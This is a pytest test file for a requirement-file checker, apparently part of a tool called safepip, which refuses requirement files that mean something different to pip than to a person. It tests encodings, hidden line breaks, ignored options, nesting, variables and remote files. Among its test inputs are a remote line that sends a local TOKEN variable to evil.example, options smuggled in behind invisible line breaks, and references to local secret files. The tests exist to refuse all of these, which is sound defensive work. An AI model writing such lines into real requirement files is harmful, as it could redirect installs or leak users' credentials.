"""Requirement files say what pip reads in them, and nothing that a person would not see."""

from __future__ import annotations

import codecs
import contextlib
import os
import re
import time
from dataclasses import dataclass, field

import pytest

from safepip.core.errors import Refused, RequirementFileError, Undecided
from safepip.core.finding import Finding
from safepip.core.limits import Limits
from safepip.core.origin import Layer, Origin, Place, Sourced
from safepip.core.subjects import RequirementKind
from safepip.pipcompat.reqfile import RequirementFile, read

SHA, OTHER = "a" * 64, "b" * 64
HERE = Origin(layer=Layer.OPERATOR, kind=Place.ARGUMENT, place="command line", line=3)


@dataclass
class Disk:
    """A few files, and what the network would give."""

    texts: dict[str, str | bytes]
    remote: dict[str, str] = field(default_factory=dict)
    folders: frozenset[str] = frozenset()

    def read_bytes(self, path: str) -> bytes:
        if path not in self.texts:
            raise FileNotFoundError(2, os.strerror(2), path)
        text = self.texts[path]
        return text if isinstance(text, bytes) else text.encode()

    def exists(self, path: str) -> bool:
        return path in self.texts or path in self.folders

    def is_dir(self, path: str) -> bool:
        return path in self.folders

    def fetch_text(self, url: str) -> bytes:
        return self.remote[url].encode()


def read_text(
    text: str | bytes,
    *,
    constraint: bool = False,
    environ: dict[str, str] | None = None,
    name: str = "r.txt",
    limits: Limits = Limits(),
    **others: str | bytes,
) -> RequirementFile:
    disk = Disk({name: text, **{key.replace("_txt", ".txt"): value for key, value in others.items()}})
    return read(
        Sourced(value=name, origin=HERE),
        constraint=constraint,
        files=disk,
        environ=environ or {},
        limits=limits,
    )


def read_remote(url: str, remote: dict[str, str], environ: dict[str, str] | None = None) -> RequirementFile:
    disk = Disk({}, remote=remote, folders=frozenset({"./app", "app"}))
    return read(Sourced(value=url, origin=HERE), constraint=False, files=disk, environ=environ or {})


def texts(found: RequirementFile) -> list[str]:
    return [line.text for line in found.lines]


def options(found: RequirementFile) -> list[tuple[str, str]]:
    return [(setting.option, setting.value) for setting in found.settings]


def failed(text: str | bytes, words: str, **more: str | bytes) -> RequirementFileError:
    """What pip cannot read either."""
    with pytest.raises(RequirementFileError, match=words) as caught:
        read_text(text, **more)  # type: ignore[arg-type]
    assert caught.value.origin is not None
    return caught.value


def refused(text: str | bytes, words: str, **more: str | bytes) -> Finding:
    """What pip would read, and not as a person does."""
    with pytest.raises(Refused) as caught:
        read_text(text, **more)  # type: ignore[arg-type]
    (finding,) = caught.value.findings
    assert (finding.rule, finding.denies) == ("misleading-file", True)
    assert re.search(words, finding.message), finding.message
    assert finding.help
    return finding


# --- what pip reads -------------------------------------------------------------------------------


def test_requirements_options_and_places():
    found = read_text(
        f"# header\n--index-url https://a.example/simple\ndemo==1.0 \\\n    --hash=sha256:{SHA} \\\n"
        f"    --hash=sha256:{OTHER}\n-f wheels\n"
    )
    assert [(s.option, s.value, str(s.origin), s.in_requirement_file) for s in found.settings] == [
        ("index-url", "https://a.example/simple", "r.txt:2:13", True),
        ("find-links", "wheels", "r.txt:6:4", True),
    ]
    (line,) = found.lines
    assert (line.text, str(line.origin), line.from_file) == ("demo==1.0", "r.txt:3:1", True)
    assert [digest.hex for digest in line.hash_options] == [SHA, OTHER]
    assert line.origin.layer is Layer.PROJECT


@pytest.mark.parametrize(
    "row, option, value",
    [
        ("--ind http://e.example", "index-url", "http://e.example"),
        ("--pypi-url http://e.example", "index-url", "http://e.example"),
        ("-ihttp://e.example", "index-url", "http://e.example"),
        ('--"extra"-index-url http://e.example', "extra-index-url", "http://e.example"),
        ("--trusted e.example", "trusted-host", "e.example"),
        ("\\--index-url \\", "index-url", "http://e.example"),
    ],
)
def test_disguised_options_are_seen(row: str, option: str, value: str):
    text = row + "\nhttp://e.example\n" if row.endswith("\\") else row
    assert options(read_text(text)) == [(option, value)]


def test_find_links_beside_the_file_are_found_there():
    disk = Disk({"sub/r.txt": "-f wheels\n"}, folders=frozenset({"sub/wheels"}))
    found = read(Sourced(value="sub/r.txt", origin=HERE), constraint=False, files=disk, environ={})
    assert options(found) == [("find-links", "sub/wheels")]


# --- encodings ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        "dem\u00f6 # x".encode().replace("\u00f6".encode(), b"o"),
        codecs.BOM_UTF8 + b"demo",
        codecs.BOM_UTF16_LE + "demo".encode("utf-16-le"),
        codecs.BOM_UTF16_BE + "demo".encode("utf-16-be"),
        codecs.BOM_UTF32_LE + "demo".encode("utf-32-le"),
        codecs.BOM_UTF32_BE + "demo".encode("utf-32-be"),
        b"# -*- coding: utf-8 -*-\ndemo",
        b"# coding=latin-1\ndemo # \xe9",
        b"# caf\xc3\xa9\r\ndemo\r\n",
    ],
)
def test_plain_encodings_are_read(data: bytes):
    assert texts(read_text(data)) == ["demo"]


@pytest.mark.parametrize(
    "codec", ["utf-7", "unicode_escape", "rot13", "cp037", "no-such-codec", "raw_unicode_escape"]
)
def test_encodings_that_hide_text_are_refused(codec: str):
    finding = refused(f"# -*- coding: {codec} -*-\ndemo\n".encode(), "can hide what it says")
    assert str(finding.origin) == "r.txt:1:15"


def test_bytes_that_are_not_utf8_name_the_line():
    finding = refused(b"demo\n# \xff\n", "not utf-8")
    assert (str(finding.origin), finding.origin.text) == ("r.txt:2:3", "# \ufffd")


# --- hidden line breaks ------------------------------------------------------------------------------


@pytest.mark.parametrize("character", list("\v\f\x1c\x1d\x1e\x85\u2028\u2029\r"))
def test_hidden_line_break_is_refused_and_named(character: str):
    finding = refused(f"demo\n# harmless{character}--index-url http://e.example\n", "ends a line for pip")
    assert str(finding.origin) == "r.txt:2:11"


@pytest.mark.parametrize(
    "codec", ["utf-8", "utf-8-sig", "latin-1", "cp1252", "koi8-r", "iso8859-15", "ascii"]
)
def test_character_sets_that_hide_nothing_are_read(codec: str):
    assert texts(read_text(f"# coding: {codec}\ndemo # caf\n".encode(codec))) == ["demo"]


def test_windows_line_ends_and_other_letters_pass():
    assert texts(read_text("demo\r\n# \u00e9\u4e2d\r\nother\r\n")) == ["demo", "other"]


# --- nothing that is written is ignored --------------------------------------------------


@pytest.mark.parametrize(
    "text, words, place",
    [
        ("demo --index-url https://a.example", "--index-url has no effect on a requirement", "1:18"),
        ("demo --ind=https://a.example", "--index-url has no effect on a requirement", "1:12"),
        ("demo -r a.txt", "--requirement has no effect on a requirement", "1:9"),
        ("-e ./app --pre", "--pre has no effect on an editable", "1:10"),
        ("-e ./app -e ./other", "--editable has no effect on an editable", "1:13"),
        (f"-e ./app --hash=sha256:{SHA}", "--hash has no effect on an editable", "1:17"),
        ("--no-index demo", "demo behind an option has no effect", "1:12"),
        ("-r a.txt -r b.txt", "--requirement has no effect beside another file", "1:13"),
        ("-c a.txt -r b.txt --pre", "", "1:13"),
        ("-r a.txt --pre", "--pre has no effect beside another file", "1:10"),
        ("-f f -f f", "takes the first one of a line", "1:9"),
        (f"--hash=sha256:{SHA}", "--hash belongs to no requirement", "1:8"),
        ("-C a=b", "--config-settings belongs to no requirement", "1:4"),
        (f"demo \\\n# why\n    --hash=sha256:{SHA}", "belongs to no requirement", "3:12"),
        ("demo # note \\\nother", "comment that ends in a backslash", "1:6"),
        (f"demo \\\n\\# note \\\n    --hash=sha256:{SHA}", "comment that ends in a backslash", "2:2"),
        ("demo --hash=sha256:12", "64 hexadecimal", "1:13"),
        ("demo --hash sha512:12", "128 hexadecimal", "1:13"),
    ],
)
def test_what_pip_would_ignore_is_refused_where_it_stands(text: str, words: str, place: str):
    with pytest.raises(Refused) as caught:
        read_text(text, a_txt="", b_txt="")
    finding = caught.value.findings[0]
    assert re.search(words, finding.message), finding.message
    assert (finding.rule, str(finding.origin)) == ("misleading-file", f"r.txt:{place}")


def test_everything_misleading_in_a_file_is_said_at_once_and_nothing_that_it_names_is_opened():
    with pytest.raises(Refused) as caught:
        read_text("demo --pre\n-r nowhere.txt\n# x\u2028y\n--hash=md5\n-r other.txt --pre\n")
    assert [str(finding.origin) for finding in caught.value.findings] == ["r.txt:3:4", "r.txt:1:6"]


@pytest.mark.parametrize(
    "text, words, place",
    [
        ("demo\t--hash=sha256:" + SHA, "Invalid requirement", "1:1"),
        (f"demo --hash=md5:{'c' * 32}", "Allowed hash algorithms", "1:6"),
        ("demo\n  --cert x.pem", "no such option: --cert", "2:3"),
        ("demo --hash", "requires 1 argument", "1:6"),
        ("--index-url 'x", "Could not split options: --index-url 'x", "1:1"),
    ],
)
def test_what_pip_cannot_read_fails_where_it_stands(text: str, words: str, place: str):
    assert str(failed(text, words).origin) == f"r.txt:{place}"


@pytest.mark.parametrize(
    "text",
    [
        "demo # C:\\dir\\",
        "demo # note \\\n\n",
        "demo # note \\\n# another\n",
        "demo \\\n    # why\n",
        "demo\n\\\n",
    ],
)
def test_a_comment_that_swallows_nothing_is_only_a_comment(text: str):
    assert texts(read_text(text)) == ["demo"]


def test_their_plain_twins_pass():
    found = read_text(
        f"--pre\n--prefer-binary --no-index\ndemo; python_version > '3'\nother \\\n   --hash=sha256:{SHA}\n-r a.txt\n",
        a_txt="third -C a=b\n",
    )
    assert texts(found) == ["demo; python_version > '3'", "other", "third"]
    assert found.lines[-1].config_settings == ("a=b",)
    assert options(found) == [("pre", "true"), ("prefer-binary", "true"), ("no-index", "true")]


# --- nesting --------------------------------------------------------------------------------------


def test_requirements_inside_constraints_are_requirements():
    found = read_text("-c limits.txt\n", limits_txt="demo<2\n-r more.txt\n", more_txt="other\n")
    assert [(line.text, line.constraint, line.origin.place) for line in found.lines] == [
        ("demo<2", True, "limits.txt"),
        ("other", False, "more.txt"),
    ]


def test_paths_are_relative_to_the_file_that_names_them():
    disk = Disk({"a/r.txt": "-r ../b/s.txt\n", "b/s.txt": "-c t.txt\n", "b/t.txt": "demo<2\n"})
    found = read(Sourced(value="a/r.txt", origin=HERE), constraint=False, files=disk, environ={})
    assert [(line.text, line.origin.place) for line in found.lines] == [("demo<2", "b/t.txt")]


def test_recursion_is_an_error_in_pips_words():
    failed(
        "-r a.txt\n", "a.txt recursively references itself in a.txt and again in r.txt", a_txt="-r ./a.txt\n"
    )
    failed("-r a.txt\n", "r.txt recursively references itself in a.txt", a_txt="-r r.txt\n")


def test_the_same_file_twice_is_no_recursion():
    assert texts(read_text("-r a.txt\n-r a.txt\n", a_txt="demo\n")) == ["demo", "demo"]


def test_depth_is_bounded():
    nested = {f"f{number}_txt": f"-r f{number + 1}.txt\n" for number in range(20)}
    failed("-r f0.txt\n", "more than 5", limits=Limits(nesting_max=5), f20_txt="", **nested)  # type: ignore[arg-type]
    assert texts(read_text("-r f0.txt\n", f20_txt="demo", **nested)) == ["demo"]  # type: ignore[arg-type]


@pytest.mark.parametrize("constraint, kind", [(False, "requirements"), (True, "constraint")])
def test_missing_file_in_pips_words(constraint: bool, kind: str):
    with pytest.raises(RequirementFileError) as caught:
        read(Sourced(value="x.txt", origin=HERE), constraint=constraint, files=Disk({}), environ={})
    assert caught.value.message == f"Could not open {kind} file: [Errno 2] No such file or directory: 'x.txt'"
    assert caught.value.exit_code == 1
    assert caught.value.origin == HERE


@pytest.mark.parametrize(
    "name", ["pylock.toml", "pylock.dev.toml", "sub/pylock.toml[x]", "https://h.example/pylock.toml?x"]
)
def test_lock_files_are_refused_by_name(name: str):
    with pytest.raises(RequirementFileError, match="lock file"):
        read(Sourced(value=name, origin=HERE), constraint=False, files=Disk({}), environ={})
    with pytest.raises(RequirementFileError, match="lock file"):
        read_text("-r pylock.toml\n")


# --- variables ---------------------------------------------------------------------------------------


def test_variables_as_pip():
    environ = {"TOKEN": "s3cret", "lower": "x", "EMPTY": ""}
    found = read_text(
        "-i https://${TOKEN}@a.example\n# ${TOKEN}\ndemo @ https://h.example/${EMPTY}${lower}${NO}.zip\n",
        environ=environ,
    )
    assert options(found) == [("index-url", "https://s3cret@a.example")]
    assert texts(found) == ["demo @ https://h.example/${EMPTY}${lower}${NO}.zip"]
    assert found.settings[0].origin.text == "-i https://${TOKEN}@a.example"
    assert found.settings[0].origin.column == len("-i https://") + 1


@pytest.mark.parametrize(
    "line, secret",
    [
        ("demo @ https://files.example/${TOKEN}/demo-1-py3-none-any.whl", True),
        ("demo @ https://files.example/demo-1-py3-none-any.whl?t=${TOKEN}", True),
        ("demo @ git+https://code.example/${TOKEN}/demo", True),
        ("-r https://me@files.example/${TOKEN}.txt", True),
        ("demo @ https://${TOKEN}/demo-1-py3-none-any.whl", False),
        ("--index-url https://me:${TOKEN}@index.example/simple", False),
        ("demo==${TOKEN}  # https://files.example/${TOKEN}", False),
        ("--find-links file:///${TOKEN}/wheels", False),
    ],
)
def test_a_variable_in_a_url_may_be_a_secret(line: str, secret: bool):
    """Userinfo is hidden by whatever reads the URL; hosts, versions and folders are what messages are about."""
    told: dict[str, str] = {}
    disk = Disk({"r.txt": line}, remote={"https://me@files.example/1.5.txt": ""})
    entry = Sourced(value="r.txt", origin=HERE)
    read(entry, constraint=False, files=disk, environ={"TOKEN": "1.5"}, hide=told.__setitem__)
    assert told == ({"${TOKEN}": "1.5"} if secret else {})


@pytest.mark.parametrize("url", ["file:r2.txt", "FILE:sub/r2.txt", "file:../r2.txt", "file:"])
def test_a_file_url_without_an_absolute_path_names_no_file(url: str):
    """pip looks for it in the root folder; whoever writes it means the one beside this file."""
    error = failed(f"-r {url}\n", "no absolute path in the URL", r2_txt="demo\n")
    assert str(error.origin) == "r.txt:1:4"
    assert texts(read_text("-r file:///srv/r2.txt\n", **{"/srv/r2_txt": "demo\n"})) == ["demo"]


def test_a_file_url_of_a_lock_is_that_of_a_lock():
    for url in (
        "file:pylock.toml",
        "file:///srv/pylock.dev.toml",
        "https://files.example:80/pylock.toml?x#y",
    ):
        failed(f"-r {url}\n", "a lock file")


@pytest.mark.parametrize("value", ["a/hunter2", "hunter2\nother", "hunter2'"])
def test_the_value_of_a_variable_is_in_no_message(value: str):
    error = failed("${TOKEN}\n", "Invalid requirement", environ={"TOKEN": value})  # type: ignore[arg-type]
    assert "hunter2" not in f"{error.message} {error.hint} {error.notes}"
    assert "${TOKEN}" in error.message


def test_a_variable_that_adds_an_option_is_seen_where_it_stands():
    found = read_text("\n  ${MORE}\n", environ={"MORE": "--index-url https://v.example"})
    assert options(found) == [("index-url", "https://v.example")]
    assert str(found.settings[0].origin) == "r.txt:2:3"


# --- remote files -----------------------------------------------------------------------------


def test_remote_file_is_read_and_its_place_shows_no_password():
    url = "https://me:secret@h.example/r.txt"
    found = read_remote(url, {url: "demo\n-r more.txt\n", "https://me:secret@h.example/more.txt": "other\n"})
    assert [(line.text, line.origin.place) for line in found.lines] == [
        ("demo", "https://h.example/r.txt"),
        ("other", "https://h.example/more.txt"),
    ]
    # For the rules about URLs: a file that a file names is a setting as much as one on the command line.
    assert options(found) == [("requirement", "https://me:secret@h.example/more.txt")]


@pytest.mark.parametrize("url", ["http://h.example/r.txt", "HTTP://h.example/r.txt"])
def test_plaintext_remote_file_is_refused(url: str):
    with pytest.raises(Refused) as caught:
        read_remote(url, {url: "demo\n"})
    assert [finding.rule for finding in caught.value.findings] == ["plaintext-link"]


def test_remote_file_naming_a_plaintext_one_is_refused():
    with pytest.raises(Refused) as caught:
        read_remote(
            "https://h.example/r.txt", {"https://h.example/r.txt": "demo\n-r http://h.example/s.txt\n"}
        )
    assert str(caught.value.findings[0].origin) == "https://h.example/r.txt:2:4"


@pytest.mark.parametrize(
    "row",
    ["-r file:///etc/secret.txt", "-c file:/x", "-f file:///x", "-f wheels", "-i ../simple", "./app", "-e ./app",
     "-e app", "demo @ file:///x.zip", "--extra-index-url FILE:///x", "demo @ git+file:///x", "-e git+file:///x#egg=x", "x.whl",
     "./app[x]; python_version > '3'", "../x.tar.gz"],
)  # fmt: skip
def test_remote_file_may_not_name_local_ones(row: str):
    with pytest.raises(Refused) as caught:
        read_remote("https://h.example/r.txt", {"https://h.example/r.txt": f"other\n{row}"})
    (finding,) = caught.value.findings
    assert finding.rule == "remote-reaches-local"
    assert str(finding.origin).startswith("https://h.example/r.txt:2:")


def test_what_a_remote_file_names_is_not_even_looked_for_here():
    class Blind(Disk):
        def exists(self, path: str) -> bool:
            raise AssertionError(path)

        is_dir = exists

    text = "a/b\nx.whl\n-e app\n-f wheels\ndemo[x]\n"
    disk = Blind({}, remote={"https://h.example/r.txt": text})
    with pytest.raises(Refused) as caught:
        read(Sourced(value="https://h.example/r.txt", origin=HERE), constraint=False, files=disk, environ={})
    assert [finding.origin.line for finding in caught.value.findings] == [1, 2, 3, 4]


def test_remote_file_may_not_read_this_machines_variables():
    remote = {"https://h.example/r.txt": "-i https://${TOKEN}@evil.example\n"}
    with pytest.raises(Refused) as caught:
        read_remote("https://h.example/r.txt", remote, {"TOKEN": "s3cret"})
    (finding,) = caught.value.findings
    assert (finding.rule, str(finding.origin)) == ("remote-reaches-local", "https://h.example/r.txt:1:12")
    assert "variable TOKEN" in finding.message
    assert "s3cret" not in repr(finding)
    assert options(read_remote("https://h.example/r.txt", remote)) == [
        ("index-url", "https://${TOKEN}@evil.example")
    ]


def test_what_a_remote_file_lacks_is_said_of_the_line_that_names_it():
    class Silent(Disk):
        def fetch_text(self, url: str) -> bytes:
            raise Undecided(f"{url} answered with HTTP status 404")

    disk = Silent({"r.txt": "demo\n-r https://h.example/s.txt\n"})
    with pytest.raises(Undecided) as caught:
        read(Sourced(value="r.txt", origin=HERE), constraint=False, files=disk, environ={})
    assert str(caught.value.origin) == "r.txt:2:4"


def test_files_that_name_each_other_again_and_again_end():
    texts = {f"f{number}_txt": f"-r f{number + 1}.txt\n" * 2 for number in range(20)}
    failed("-r f0.txt\n", "more than 1000 requirement files", f20_txt="demo\n", **texts)


def test_file_urls_are_local():
    disk = Disk(
        {"/x/r.txt": "-r more.txt\n./app\n", "/x/more.txt": "demo\n", "app/pyproject.toml": ""},
        folders=frozenset({"app"}),
    )
    found = read(Sourced(value="file:///x/r.txt", origin=HERE), constraint=False, files=disk, environ={})
    assert [line.kind for line in found.lines] == [RequirementKind.NAMED, RequirementKind.PATH]


# --- What a stranger's file may cost, and show ---------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "demo" + " " * 150_000 + "x",
        "./" + "[" * 150_000 + "]]",
        "-f x " * 20_000,
        "demo \\\n" * 20_000,
        "'a'b " * 20_000,
        "${X}" * 30_000,
    ],
    ids=["spaces", "brackets", "options", "rows", "words", "variables"],
)
def test_no_line_takes_long(text: str):
    begun = time.process_time()
    with contextlib.suppress(RequirementFileError, Refused):
        read_text(text, environ={"X": "y"})
    assert time.process_time() - begun < 20


def test_the_length_of_a_line_is_bounded():
    failed(
        "\n\ndemo \\\n" + " " * 100,
        "a line of more than 50 characters",
        limits=Limits(requirement_line_max_chars=50),
    )  # type: ignore[arg-type]
    failed(
        "demo${X}${X}",
        "a line of more than 50 characters",
        environ={"X": "y" * 30},
        limits=Limits(requirement_line_max_chars=50),
    )  # type: ignore[arg-type]
    assert texts(read_text("demo" + " " * 40, limits=Limits(requirement_line_max_chars=50))) == ["demo"]


@pytest.mark.parametrize("row", ["demo=${TOKEN}", "-i https://${TOKEN}@h.example --bogus", "-f 'x${TOKEN}"])
def test_no_error_shows_what_a_variable_holds(row: str):
    with pytest.raises(RequirementFileError) as caught:
        read_text(row, environ={"TOKEN": "s3cret"})
    assert "s3cret" not in caught.value.message
    assert "${TOKEN}" in caught.value.message
